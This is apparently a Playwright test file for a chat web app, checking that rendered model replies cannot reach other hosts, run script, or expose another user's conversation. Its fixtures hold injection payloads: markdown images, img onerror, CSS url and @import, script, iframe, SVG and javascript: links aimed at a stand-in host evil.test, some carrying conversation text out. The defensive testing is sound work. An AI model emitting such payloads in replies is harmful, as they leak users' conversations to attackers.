"""Replies that want to reach other hosts, shown in a real browser: nothing leaves it.

The fixtures fail a test whose browser asks any other host for anything, or runs into an error.
"""

from __future__ import annotations

from playwright.sync_api import Browser, expect

from llava_chat.store import ConversationStore
from llava_chat.web.session import COOKIE_NAME, Sessions
from tests.browser.conftest import Chat, NewChat, Server

SECRET = "a key that only these tests know"
EVIL = "http://evil.test/x.png"
REPLIES = (
    f"Look: ![a chart]({EVIL}?what-you-said)",
    f"Look: ![a chart][1] ![1][] ![1]\n\n[1]: {EVIL}",
    f'Look: <img src="{EVIL}" onerror="document.title=\'run\'"> <svg><image href="{EVIL}"/>',
    f"Look: <style>@import '{EVIL}';</style><p style='background:url({EVIL})'>x</p>",
    "Look: <script>document.title='run'</script> <iframe src='http://evil.test'></iframe>",
    f"Look:\n\n```mermaid\ngraph TD; A[\"<img src='{EVIL}'>\"]\n```",
    f"Look: $$\\frac{{1}}{{ \\includegraphics{{{EVIL}}} \\href{{javascript:x}}{{y}}",
)


def test_replies_reach_no_other_host(new_chat: NewChat, server: Server) -> None:
    chat = new_chat()
    chat.open(f"?c={keep(chat, server, *REPLIES)}")
    expect(chat.replies).to_have_count(len(REPLIES))
    for shown in chat.replies.all():
        expect(shown).to_contain_text("Look:")
    loading = chat.replies.locator("img, script, style, iframe, svg, [style]")
    expect(loading).to_have_count(0)
    # Whatever the browser wanted of what it was shown, it has asked for by the second frame.
    chat.page.evaluate(
        "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
    )
    expect(chat.page).not_to_have_title("run")


def test_a_script_link_is_no_link(new_chat: NewChat, server: Server) -> None:
    chat = new_chat()
    reply = "[a](javascript:document.title='run') [b](/logout) [c](https://example.org/)"
    chat.open(f"?c={keep(chat, server, reply)}")
    links = chat.replies.first.locator("a[href]")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_the_policy_stops_what_gets_past_everything_else(chromium: Browser, server: Server) -> None:
    """Markup put straight into the page, which no reply can do, is refused by the browser."""
    page = chromium.new_page()
    page.goto(server.url)
    refused = page.evaluate(
        """async evil => {
            const refused = [];
            addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
            const box = document.createElement('div');
            box.innerHTML = `<img src="${evil}"><p style="background:url(${evil}?2)">x</p>`
                + `<img src=x onerror="document.title='run'">`;
            document.body.append(box);
            await fetch(evil).catch(() => null);
            await new Promise(done => setTimeout(done, 500));
            return refused;
        }""",
        EVIL,
    )
    title = page.title()
    page.close()
    assert {"img-src", "connect-src", "script-src-attr"} <= set(refused)
    assert title != "run"


def test_another_browser_cannot_open_the_conversation(new_chat: NewChat, server: Server) -> None:
    mine, theirs = new_chat(), new_chat()
    conversation_id = keep(mine, server, "Look: my secret")
    mine.open(f"?c={conversation_id}")
    expect(mine.replies).to_have_count(1)
    theirs.open(f"?c={conversation_id}")
    expect(theirs.page.get_by_role("alert")).to_be_visible()
    expect(theirs.replies).to_have_count(0)
    assert "my secret" not in theirs.page.content()


def keep(chat: Chat, server: Server, *replies: str) -> str:
    """Put a conversation with these replies among those of the chat's browser; returns its id."""
    cookies = {cookie["name"]: cookie["value"] for cookie in chat.page.context.cookies()}
    owner = Sessions(SECRET.encode()).owner_of_cookie(cookies[COOKIE_NAME])
    assert owner is not None
    data = server.folder / "data"
    store = ConversationStore.open(f"sqlite:///{data / 'llava_chat.db'}", data)
    try:
        conversation = store.create(owner)
        for reply in replies:
            asked = store.add_user(owner, conversation.id, "What is this?", [])
            store.add_reply(owner, conversation.id, asked.id, reply, None, "stop", None)
    finally:
        store.close()
    return conversation.id
